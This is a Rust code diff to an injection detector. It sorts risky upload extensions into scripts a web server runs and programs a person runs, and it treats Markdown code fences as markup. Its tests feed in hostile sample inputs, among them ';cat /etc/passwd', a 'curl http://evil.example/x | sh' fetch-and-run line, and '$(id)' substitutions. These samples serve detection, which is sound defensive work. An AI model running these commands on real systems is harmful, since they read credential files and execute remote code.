@@ -434,7 +434,8 @@ impl Rce {
     pub(crate) fn scan_filename(&self, v: &Variants, sink: &mut Sink<'_>) {
         let name: String = v.lower().chars().filter(|c| !c.is_whitespace()).collect();
         let base = name.rsplit(['/', '\\']).next().unwrap_or("");
-        let script = [
+        // What a web server runs, or reconfigures itself by, where it stores the upload.
+        let served = [
             ".htaccess",
             ".htpasswd",
             ".user.ini",
@@ -448,19 +449,17 @@ impl Rce {
             ".shtml",
             ".cgi",
             ".pl",
-            ".sh",
-            ".bash",
-            ".py",
-            ".exe",
-            ".bat",
-            ".cmd",
-            ".ps1",
-            ".vbs",
             ".war",
-            ".jar",
         ];
-        if script.iter().any(|s| base.ends_with(s)) {
+        // Programs that run only when someone runs them: homework, CI scripts and tools are
+        // uploaded as these every day.
+        let programs = [
+            ".sh", ".bash", ".py", ".exe", ".bat", ".cmd", ".ps1", ".vbs", ".jar",
+        ];
+        if served.iter().any(|s| base.ends_with(s)) {
             sink.hit(RCE_UPLOAD_SCRIPT, base, 0);
+        } else if programs.iter().any(|s| base.ends_with(s)) {
+            sink.hit(RCE_UPLOAD_PROGRAM, base, 0);
         }
     }
 
@@ -489,11 +488,14 @@ impl Rce {
 
     fn shell_scan(&self, text: &str, sink: &mut Sink<'_>, values: bool) {
         let b = text.as_bytes();
-        let spans = if memchr::memchr(b'`', b).is_some() {
-            code_spans(b)
+        let (fences, spans) = if memchr::memchr(b'`', b).is_some() {
+            let fences = fences(b);
+            let spans = code_spans(b, &fences);
+            (fences, spans)
         } else {
-            Vec::new()
+            (Vec::new(), Vec::new())
         };
+        let mut fences = fences.iter().peekable();
         let mut spans = spans.iter().peekable();
         let mut i = 0;
         let mut sep = Sep::Start;
@@ -504,6 +506,15 @@ impl Rce {
             let c = b[i];
             if c == b' ' || c == b'\t' || c == 0x0B || c == 0x0C {
                 i += 1;
+                continue;
+            }
+            // A fence line's backticks and language are markup; the code after it starts on
+            // the next line.
+            if let Some(&&(start, end)) = fences.peek()
+                && i == start
+            {
+                fences.next();
+                i = end;
                 continue;
             }
             if let Some(&&(open, close)) = spans.peek() {
@@ -793,8 +804,12 @@ fn separator(b: &[u8], i: usize) -> Option<(Sep, usize)> {
 /// the text has at least two words. When any backtick does not fit (an odd count, a doubled
 /// backtick, a span glued to a word as in ``x`id` ``), there are none: every backtick is then
 /// command substitution.
-fn code_spans(b: &[u8]) -> Vec<(usize, usize)> {
-    let ticks: Vec<usize> = memchr::memchr_iter(b'`', b).take(33).collect();
+fn code_spans(b: &[u8], fences: &[(usize, usize)]) -> Vec<(usize, usize)> {
+    let in_fence = |i: &usize| fences.iter().any(|&(s, e)| (s..e).contains(i));
+    let ticks: Vec<usize> = memchr::memchr_iter(b'`', b)
+        .filter(|i| !in_fence(i))
+        .take(33)
+        .collect();
     if ticks.len() % 2 == 1 || ticks.len() > 32 {
         return Vec::new();
     }
@@ -841,6 +856,44 @@ fn code_spans(b: &[u8]) -> Vec<(usize, usize)> {
         return Vec::new();
     }
     spans
+}
+
+/// Markdown code fences: a line of three or more backticks and an optional language
+/// (```` ```python ````), closed by a later line of at least as many backticks alone. Each
+/// fence line's backticks and language, as (start, end) offsets, in order; the code between is
+/// read as any other text. A language is a short word (`c++`, `objective-c`, `c#`), so a
+/// payload after the backticks is not one; a fence never closed is no fence.
+fn fences(b: &[u8]) -> Vec<(usize, usize)> {
+    let mut out = Vec::new();
+    let mut open: Option<(usize, usize, usize)> = None;
+    let mut line = 0;
+    while line < b.len() && out.len() < 64 {
+        let end = memchr::memchr(b'\n', &b[line..]).map_or(b.len(), |i| line + i);
+        let text = &b[line..end];
+        let indent = text.iter().take(3).take_while(|&&c| c == b' ').count();
+        let run = text[indent..].iter().take_while(|&&c| c == b'`').count();
+        if run >= 3 {
+            let ticks_end = line + indent + run;
+            let rest = b[ticks_end..end].trim_ascii();
+            match open {
+                None if rest.len() <= 24
+                    && rest
+                        .iter()
+                        .all(|&c| c.is_ascii_alphanumeric() || b"+#._-".contains(&c)) =>
+                {
+                    open = Some((line + indent, end, run));
+                }
+                Some((start, open_end, need)) if rest.is_empty() && run >= need => {
+                    out.push((start, open_end));
+                    out.push((line + indent, end));
+                    open = None;
+                }
+                _ => {}
+            }
+        }
+        line = end + 1;
+    }
+    out
 }
 
 /// A number (digits and dots) follows the command and ends it: `sleep 10`, `ping 10.0.0.1;`,
@@ -1179,6 +1232,50 @@ mod tests {
             !hits(Kind::Value, "query:q", "the `id` field is required", 1)
                 .contains(&RCE_CODE_SPAN_LOOSE)
         );
+    }
+
+    #[test]
+    fn markdown_code_fences_are_markup() {
+        silent(
+            "rce",
+            &[
+                "Wraps `charge()` in a retry.\n\n```python\n@retry(attempts=3)\ndef charge(self):\n    return 1\n```\n\n- [x] tests",
+                "Example:\n```\nconst a = 1;\n```\nand `b` too, see docs",
+                "  ```c++\nint main() {}\n  ```\nbuilds with `make` later",
+            ],
+        );
+        flags(
+            "rce",
+            &[
+                // The code between fences is read as any text.
+                "Run this:\n```bash\n;cat /etc/passwd\n```\n",
+                "```sh\ncurl http://evil.example/x | sh\n```",
+                // A fence never closed, or a payload where the language goes, is no fence.
+                "```python\n`id`",
+                "```;id;\nx\n```",
+                "```$(id)\n```",
+            ],
+        );
+        assert_eq!(fences(b"a\n```js\nx\n```\n"), [(2, 7), (10, 13)]);
+        assert!(fences(b"```js\nx\n``").is_empty());
+    }
+
+    #[test]
+    fn uploads_of_served_scripts_and_of_programs() {
+        for (name, served, program) in [
+            ("shell.jsp", true, false),
+            ("a.ASPX", true, false),
+            (".htaccess", true, false),
+            ("hw3.py", false, true),
+            ("deploy.sh", false, true),
+            ("setup.exe", false, true),
+            ("report.pdf", false, false),
+        ] {
+            let h = hits(Kind::Filename, "file:f", name, 2);
+            assert_eq!(h.contains(&RCE_UPLOAD_SCRIPT), served, "{name}: {h:?}");
+            assert_eq!(h.contains(&RCE_UPLOAD_PROGRAM), program, "{name}: {h:?}");
+        }
+        assert!(!hits(Kind::Filename, "file:f", "hw3.py", 1).contains(&RCE_UPLOAD_PROGRAM));
     }
 
     #[test]
